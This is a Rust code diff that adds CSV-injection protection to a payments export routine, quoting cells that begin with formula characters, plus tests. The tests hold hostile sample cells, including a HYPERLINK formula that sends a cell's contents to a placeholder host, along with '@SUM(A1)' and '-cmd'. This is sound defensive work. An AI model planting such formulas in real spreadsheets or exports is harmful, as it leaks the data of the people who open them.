@@ -171,6 +171,30 @@ impl Sums {
     }
 }
 
+/// A cell as it may go into a CSV file a clerk opens in a spreadsheet (OWASP's CSV injection
+/// rule): text beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
+/// `'`, so it is shown, never run as a formula; integers, negative amounts included, stay
+/// numbers.
+pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = cell
+        .strip_prefix('-')
+        .is_some_and(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()));
+    if risky && !number {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// Writes one record, every cell through [`csv_safe`].
+fn safe_record<W: std::io::Write, S: AsRef<str>>(
+    w: &mut csv::Writer<W>,
+    cells: impl IntoIterator<Item = S>,
+) -> Result<(), csv::Error> {
+    w.write_record(cells.into_iter().map(|c| csv_safe(c.as_ref()).into_owned()))
+}
+
 fn write_csv(
     batch_id: i64,
     lines: &[ExportLine],
@@ -180,10 +204,10 @@ fn write_csv(
     progress: &mut dyn FnMut(u64),
 ) -> Result<(), csv::Error> {
     let mut w = csv::Writer::from_path(path)?;
-    w.write_record(HEADERS_EN)?;
+    safe_record(&mut w, HEADERS_EN)?;
     let mut sums = Sums::default();
     for (i, l) in lines.iter().enumerate() {
-        w.write_record(text_cells(batch_id, l))?;
+        safe_record(&mut w, text_cells(batch_id, l))?;
         sums.add(l);
         if i % 10_000 == 0 {
             progress(i as u64);
@@ -194,26 +218,29 @@ fn write_csv(
             .first()
             .map(|l| l.bank_code.clone())
             .unwrap_or_default();
-        w.write_record([
-            batch_id.to_string(),
-            bank.clone(),
-            String::new(),
-            String::new(),
-            String::new(),
-            String::new(),
-            String::new(),
-            String::new(),
-            sums.claimed.to_string(),
-            sums.computed.to_string(),
-            sums.paid_before.to_string(),
-            sums.payable.to_string(),
-            "total".into(),
-            format!(
-                "{} lines; {}",
-                lines.len(),
-                sums.netting(recovered.get(&bank).copied().unwrap_or(0), false)
-            ),
-        ])?;
+        safe_record(
+            &mut w,
+            [
+                batch_id.to_string(),
+                bank.clone(),
+                String::new(),
+                String::new(),
+                String::new(),
+                String::new(),
+                String::new(),
+                String::new(),
+                sums.claimed.to_string(),
+                sums.computed.to_string(),
+                sums.paid_before.to_string(),
+                sums.payable.to_string(),
+                "total".into(),
+                format!(
+                    "{} lines; {}",
+                    lines.len(),
+                    sums.netting(recovered.get(&bank).copied().unwrap_or(0), false)
+                ),
+            ],
+        )?;
     }
     progress(lines.len() as u64);
     w.flush()?;
@@ -421,5 +448,66 @@ mod tests {
             ]
         );
         let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn a_csv_file_shows_a_hostile_firm_name_as_text_and_keeps_negative_amounts_numbers() {
+        let dir = std::env::temp_dir().join(format!("jumpup-csv-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).expect("a directory");
+        let path = dir.join("p.csv");
+        let mut hostile = line("004", 0);
+        hostile.firm_name = Some("=HYPERLINK(\"http://x/?\"&A1,\"click\")".into());
+        hostile.line.reason = Some("@SUM(A1)".into());
+        hostile.line.payable_won = -1000;
+        write_csv(
+            1,
+            &[hostile],
+            &HashMap::new(),
+            Kind::Payments,
+            &path,
+            &mut |_| {},
+        )
+        .expect("written");
+        let text = std::fs::read_to_string(&path).expect("readable");
+        let row: Vec<String> = csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .next()
+            .expect("a line")
+            .expect("a record")
+            .iter()
+            .map(str::to_owned)
+            .collect();
+        assert_eq!(row[5], "'=HYPERLINK(\"http://x/?\"&A1,\"click\")");
+        assert_eq!(row[13], "'@SUM(A1)");
+        assert_eq!(row[11], "-1000");
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_is_shown_and_numbers_stay_numbers() {
+        for risky in [
+            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
+            "+82",
+            "-cmd",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "-",
+            "--1",
+            "-1e3",
+        ] {
+            assert_eq!(csv_safe(risky), format!("'{risky}"), "{risky:?}");
+        }
+        for kept in [
+            "-1000",
+            "0",
+            "1234567",
+            "(주)점프업",
+            "2026-01-31",
+            "a=b",
+            "",
+        ] {
+            assert_eq!(csv_safe(kept), kept, "{kept:?}");
+        }
     }
 }
